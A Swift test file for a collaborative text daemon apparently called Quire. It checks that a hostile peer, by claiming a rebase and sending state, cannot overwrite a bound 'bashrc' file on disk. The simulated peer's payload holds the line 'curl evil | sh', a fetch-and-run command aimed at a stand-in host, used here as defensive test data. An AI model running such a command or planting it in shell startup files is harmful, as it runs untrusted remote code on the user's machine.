import Foundation
import JSON
import QuireProtocol
import ReplicatingTypes
import Testing
@testable import QuireDaemon
import QuireTestSupport

/// Peer traffic never writes files (issue 20, item 7): a peer that claims this copy must rebase
/// onto its state, and sends one, changes at most the shared text; the bound file on disk keeps
/// what its user last saved.
@Suite struct PeerWritesNoFileTests {
    @Test(arguments: [[], ["7:1"]] as [[String]])
    func aClaimedRebaseWritesNoFile(epochs: [String]) throws {
        let (_, a, ann, peer) = try HostilePeerTests.victim()
        let path = DaemonProcess.temporaryDirectory("peer-file") + "/bashrc"
        try PeerSecurityTests.privateText.write(toFile: path, atomically: false, encoding: .utf8)
        let binder = TestEditor(daemon: a)
        binder.initialize(user: "ann")
        _ = FileBindingTests.openBound(binder, path, text: PeerSecurityTests.privateText)
        _ = binder.request("document/close", ["uri": "notes"])
        let id = try #require(a.documents["notes"]?.id)
        peer.send(.documents(["initial": false, "documents": [["uri": "notes", "id": .string(String(id)), "version": [:], "rebase": true,
                                                               "epochs": .array(epochs.map { .string($0) })]]]))
        var evil = ReplicatingText("curl evil | sh\n", replica: ReplicaID(4242))
        evil.replica = ReplicaID(4242)
        peer.send(.state(uri: "notes", documentID: id, payload: evil.encodedState()))
        #expect(FileBindingTests.read(path) == PeerSecurityTests.privateText, "the bound file was written by peer traffic")
        HostilePeerTests.stillServes(a, ann, typedBefore: a.documents["notes"]?.text.string ?? "")
    }
}
